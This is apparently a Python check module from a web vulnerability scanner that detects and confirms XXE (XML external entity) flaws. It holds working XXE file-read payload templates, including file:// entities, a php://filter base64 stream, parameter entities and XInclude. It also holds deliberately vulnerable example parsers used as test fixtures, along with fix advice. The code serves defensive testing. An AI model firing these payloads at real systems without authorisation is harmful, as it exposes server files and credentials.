"""The site's XML parser follows external entities that a sender declares (XXE).

What it looks for
Bodies, values and uploaded files that are XML; of other uploaded files a plain XML document takes the place, since many
imports take several formats. A document type is put before them whose entity stands for a file of the server, and
the entity is used where the original text was; also through a stream filter, a parameter entity and XInclude.

Why it matters
The parser reads files of the server for the sender, and fetches addresses that only the server can reach: passwords,
keys, cloud credentials and internal services.

How it is confirmed
Two different files come back, each with the content that only it has, between two random words that stood around the
entity. A missing file, and an entity that merely holds the file's name as text, must show nothing of the kind. A
parser that expands the sender's own entities and yet reads no file is reported as tentative and with low severity: it
invites attacks that exhaust the memory.

How to fix it
Refuse document types. Java: `factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)`.
Python: `defusedxml`, or lxml with `XMLParser(resolve_entities=False, no_network=True)`. PHP: libxml 2.9 or later and
never `LIBXML_NOENT` or `LIBXML_DTDLOAD`. .NET: `XmlReaderSettings.DtdProcessing = DtdProcessing.Prohibit`. Ruby:
Nokogiri without `noent`. Node: libxmljs without `noent: true`. XInclude stays off by default; leave it so.

When it may be wrong
A confirmed finding shows the server's own files and can hardly be wrong.
"""

from __future__ import annotations

import base64
import binascii
import re
from dataclasses import asdict, dataclass

from vedette.contract.checkinfo import CheckInfo, Kind, Phase, ProofLevel, Severity
from vedette.contract.exchange import Exchange, Request, Response, Step
from vedette.engine.attack.compare import appears, blocked
from vedette.engine.attack.example import Example, Handler
from vedette.engine.attack.multipart import parts
from vedette.engine.attack.point import Point, PointKind, Target
from vedette.engine.attack.probe import Candidate, Probe, Proof
from vedette.engine.attack.rng import Rng
from vedette.engine.attack.value_kinds import value_kinds
from vedette.engine.attack.xml_leaves import xml_leaves
from vedette.engine.checks.file.example_files import Files
from vedette.engine.checks.file.stable_files import SYSTEMS, content_of

INFO = CheckInfo(
    id="xml-external-entity",
    title="XML external entities are followed (XXE)",
    kind=Kind.ACTIVE,
    phase=Phase.DETECT,
    severity=Severity.HIGH,
    proof=ProofLevel.CONFIRMED,
    cwe=(611, 776),
    cvss31="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:L",
    cvss40="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:L/SC:N/SI:N/SA:N",
    owasp="A05:2021",
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
        "https://cwe.mitre.org/data/definitions/611.html",
    ),
    tags=("xml", "file"),
    cost=2,
    identity=("origin", "path"),
    points=("xml", "body", "query", "form", "json", "multipart", "cookie"),
    wants=("error:xml", "changed", "odd", "failed"),
    profiles=("safe", "normal", "full"),
)

_PROLOGUE = re.compile(r"\s*(?:<\?xml.*?\?>)?\s*(?:<!DOCTYPE[^\[>]*(?:\[.*?\]\s*)?>)?\s*", re.DOTALL)
_ROOT = re.compile(r"<([A-Za-z_][\w:.-]*)")
_ENCODED = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")


@dataclass(frozen=True, slots=True)
class Form:
    """One way to name a file: `declare` declares what `use` uses; `@f` is the file without its first slash.

    `system` is a key of `SYSTEMS`. `encoded` forms bring the file in base64, and can carry markup. Forms that
    declare nothing go into the text itself.
    """

    declare: str
    use: str = "&x;"
    system: str = "unix"
    encoded: bool = False


_EXTERNAL = Form('<!ENTITY x SYSTEM "file:///@f">')
_THOROUGH = (
    Form('<!ENTITY x SYSTEM "file:///C:/@f">', system="windows"),
    Form('<!ENTITY x PUBLIC "any" "file:///@f">'),
    Form('<!ENTITY x SYSTEM "/@f">'),
    Form("<!ENTITY % p \"<!ENTITY x SYSTEM 'file:///@f'>\">%p;"),
    Form('<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/@f">', encoded=True),
    Form("", '<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="file:///@f"/>'),
)
_TEXT = Form('<!ENTITY x "file:///@f">')
_PLAIN = "<items><item><name>Sample</name></item></items>"
"""What stands for a file that was none of XML's."""


def _document(text: str, declarations: str, use: str, path: str = "") -> str:
    """The XML text with a document type of ours and with `use` as the text of the leaf at `path`, or of every leaf
    that holds words; unchanged where it has none."""
    for leaf in reversed(xml_leaves(text)):
        if "/@" not in leaf.path and (leaf.path == path if path else not leaf.text.strip().isdigit()):
            text = text[: leaf.start] + use + text[leaf.end :]
    body = text[_PROLOGUE.match(text).end() :] if _PROLOGUE.match(text) else text  # type: ignore[union-attr]
    root = _ROOT.match(body)
    head = f"<!DOCTYPE {root[1]} [{declarations}]>" if root and declarations else ""
    return f'<?xml version="1.0"?>{head}{body}'


def _whole(point: Point) -> tuple[Point, str, str]:
    """The point that takes whole documents, the document that it had, and the path of the leaf to use, if one."""
    if point.kind is PointKind.XML:
        text = point.target.request.body.decode("utf-8", "replace")
        return Point(point.target, PointKind.BODY, "", text), text, point.name
    return point, point.value if _looks_like_xml(point) else _PLAIN, ""


def _looks_like_xml(point: Point) -> bool:
    return "xml-like" in value_kinds(point)


def _is_file(point: Point) -> bool:
    """Whether the value is the content of an uploaded file."""
    return point.kind is PointKind.MULTIPART and any(
        part.is_filename and part.name == f"{point.name}/filename" for part in parts(point.target.request)
    )


async def _ask(probe: Probe, point: Point, form: Form, file: str, *, fresh: bool = False) -> tuple[Exchange, str]:
    """The answer, and what it shows between the two words around the entity."""
    left, right = probe.rng.word(10), probe.rng.word(10)
    place, text, path = _whole(point)
    use = left + form.use.replace("@f", file) + right
    payload = _document(text, form.declare.replace("@f", file), use, path)
    exchange = await probe.send(place, payload, fresh=fresh)
    shown = exchange.response.text if exchange.response and exchange.usable else ""
    shown = shown.partition(left)[2].partition(right)[0]
    return exchange, _decoded(shown) if form.encoded else shown


def _decoded(text: str) -> str:
    found = []
    for run in _ENCODED.findall(text):
        try:
            found.append(base64.b64decode(run[: len(run) // 4 * 4]).decode("utf-8", "replace"))
        except binascii.Error:
            continue
    return "\n".join(found)


def _internal(rng: Rng) -> tuple[str, str, str, str]:
    """Declarations of nested entities, their use, what it expands to, and a use of an undeclared one."""
    left, middle = rng.word(), rng.word()
    declared = f'<!ENTITY a "{left}"><!ENTITY b "&a;{middle}&a;">'
    return declared, "&b;", f"{left}{middle}{left}", "&amp;b;"


def _parser(external: bool, internal: bool = True, xinclude: bool = False) -> Handler:
    """An order service: replies with the order's note, read by a small parser with or without these abilities."""

    def entity(name: str, declared: dict[str, tuple[str, str]]) -> str:
        kind, value = declared.get(name, ("", ""))
        if kind == "SYSTEM" and external:
            return Files().read(value.removeprefix("file://")) or ""
        inner = re.sub(r"&(\w+);", lambda match: entity(match[1], declared), value)
        return inner if kind == "" and internal else ""

    def handle(request: Request) -> Response:
        text = request.body.decode()
        found = re.findall(r'<!ENTITY (\w+) (SYSTEM )?"([^"]*)">', text)
        declared = {name: (kind.strip(), value) for name, kind, value in found}
        note = re.search(r"<note>(.*?)</note>", text, re.DOTALL)
        shown = note[1].replace("&amp;", "\0") if note else ""
        if xinclude:
            shown = re.sub(r'<x:include [^>]*href="file://([^"]*)"/>', lambda m: Files().read(m[1]) or "", shown)
        shown = re.sub(r"&(\w+);", lambda match: entity(match[1], declared), shown).replace("\0", "&amp;")
        return Response(200, (("Content-Type", "text/xml"),), f"<ok><note>{shown}</note></ok>".encode())

    return handle


def _import(request: Request, parse: Handler) -> Response:
    """A page that reads an uploaded file with a parser of XML and shows what it found in it."""
    content = next((part.text for part in parts(request) if part.name == "list"), "")
    if not content.startswith("<"):
        return Response(200, (("Content-Type", "text/html"),), b"<p>This list cannot be read.</p>")
    note = re.sub(r"<name>(.*?)</name>", r"<note>\1</note>", content, flags=re.DOTALL)
    return parse(Request("POST", request.url, (), note.encode()))


def _refusing(request: Request) -> Response:
    if b"<!DOCTYPE" in request.body:
        return Response(400, (("Content-Type", "text/xml"),), b"<error>document types are not allowed</error>")
    return _parser(external=False, internal=False)(request)


_BODY = "<order><id>7</id><note>please hurry</note></order>"
_REQUEST = Request("POST", "http://shop.example/order", (("Content-Type", "application/xml"),), _BODY.encode())
_POINT = Point(Target(_REQUEST, "/order"), PointKind.BODY, "", _BODY)
_LEAF = Point(Target(_REQUEST, "/order"), PointKind.XML, "order/note", "please hurry")
_UPLOAD = Request(
    "POST",
    "http://shop.example/import",
    (("Content-Type", "multipart/form-data; boundary=b"),),
    b'--b\r\nContent-Disposition: form-data; name="list"; filename="a.txt"\r\n\r\nsample\r\n--b--\r\n',
)
_FILE = Point(Target(_UPLOAD, "/import"), PointKind.MULTIPART, "list", "sample")
_NUMBER = Point(Target(_REQUEST, "/order"), PointKind.XML, "order/id", "7")

EXAMPLES = (
    Example(name="external entities in a body", vulnerable=True, handler=_parser(external=True), point=_POINT),
    Example(name="external entities in one element", vulnerable=True, handler=_parser(external=True), point=_LEAF),
    Example(name="own entities only (tentative)", vulnerable=True, handler=_parser(external=False), point=_POINT),
    Example(
        name="an upload that takes XML too",
        vulnerable=True,
        handler=lambda request: _import(request, _parser(external=True)),
        point=_FILE,
    ),
    Example(
        name="an upload whose parser leaves entities alone",
        vulnerable=False,
        handler=lambda request: _import(request, _parser(external=False, internal=False)),
        point=_FILE,
    ),
    Example(name="XInclude", vulnerable=True, handler=_parser(False, internal=False, xinclude=True), point=_LEAF),
    Example(name="document types refused", vulnerable=False, handler=_refusing, point=_POINT),
    Example(
        name="entities left alone", vulnerable=False, handler=_parser(external=False, internal=False), point=_POINT
    ),
    Example(name="an element that is not shown", vulnerable=False, handler=_parser(external=True), point=_NUMBER),
)


async def detect(probe: Probe, point: Point) -> list[Candidate]:
    """A file by an external entity, and the sender's own entities; where the XML reacts, all other ways."""
    if point.kind not in (PointKind.XML, PointKind.BODY) and not _looks_like_xml(point) and not _is_file(point):
        return []
    if "/@" in point.name and point.kind is PointKind.XML:
        return []
    for form in (_EXTERNAL, *(_THOROUGH if probe.full else ())):
        system = SYSTEMS[form.system]
        exchange, shown = await _ask(probe, point, form, system.first)
        if content_of(system, system.first, shown):
            return [Candidate(check=INFO.id, point=point, data=asdict(form), steps=(Step("Detection", exchange),))]
    if point.kind is PointKind.XML:
        return []
    expanded = await _expansion(probe, point, fresh=False)
    return [Candidate(check=INFO.id, point=point, data={}, steps=expanded)] if expanded else []


async def _expansion(probe: Probe, point: Point, *, fresh: bool) -> tuple[Step, ...]:
    """The step in which the sender's own entities came back expanded; empty when they did not."""
    declared, use, expected, _ = _internal(probe.rng)
    place, text, path = _whole(point)
    payload = _document(text, declared, use, path)
    exchange = await probe.send(place, payload, fresh=fresh)
    if blocked(exchange) or not exchange.usable or not appears(exchange, expected, payload):
        return ()
    return (Step("Nested entities", exchange, (expected,), f"The answer holds {expected}, the expanded entity."),)


async def verify(probe: Probe, candidate: Candidate) -> Proof | None:
    """Two files, a missing one, and an entity that is only text."""
    point = candidate.point
    if point is None:
        return None
    if not candidate.data:
        return await _verify_expansion(probe, point)
    form = Form(**candidate.data)
    system = SYSTEMS[form.system]
    steps: list[Step] = []
    for file in (system.first, *system.others):
        exchange, shown = await _ask(probe, point, form, file, fresh=True)
        seen = content_of(system, file, shown)
        rival = any(content_of(system, name, shown) for name in system.content if name != file)
        if seen and not rival:
            note = f"What only /{file} holds stands where the entity was used."
            steps.append(Step(f"The file /{file}", exchange, () if form.encoded else (seen,), note))
        elif file == system.first:
            return None
        if len(steps) == 2:
            break
    missing = system.first.rpartition("/")[0] + "/" + probe.rng.word()
    controls = [("A missing file", form, missing), ("An entity that is only text", _TEXT, system.first)]
    for label, way, file in controls:
        exchange, shown = await _ask(probe, point, way, file, fresh=True)
        if any(content_of(system, name, shown) for name in system.content):
            return None
        steps.append(Step(label, exchange, note="No content of a file may appear.", control=True))
    level = ProofLevel.CONFIRMED if len(steps) == 4 else ProofLevel.FIRM
    detail = "The parser replaced an entity that we declared by the content of files of the server."
    return Proof(level=level, detail=detail, steps=tuple(steps))


async def _verify_expansion(probe: Probe, point: Point) -> Proof | None:
    """Once more, and not when the entity is escaped."""
    steps = await _expansion(probe, point, fresh=True)
    declared, _, expected, escaped = _internal(probe.rng)
    place, text, path = _whole(point)
    payload = _document(text, declared, escaped, path)
    control = await probe.send(place, payload, fresh=True)
    if not steps or blocked(control) or appears(control, expected, payload):
        return None
    return Proof(
        level=ProofLevel.TENTATIVE,
        title="The XML parser expands entities that a sender declares",
        severity=Severity.LOW.value,
        detail="The parser accepts a document type and expands its entities; it read no file for us.",
        steps=(*steps, Step("Control", control, note="Escaped, the entity must not be expanded.", control=True)),
    )
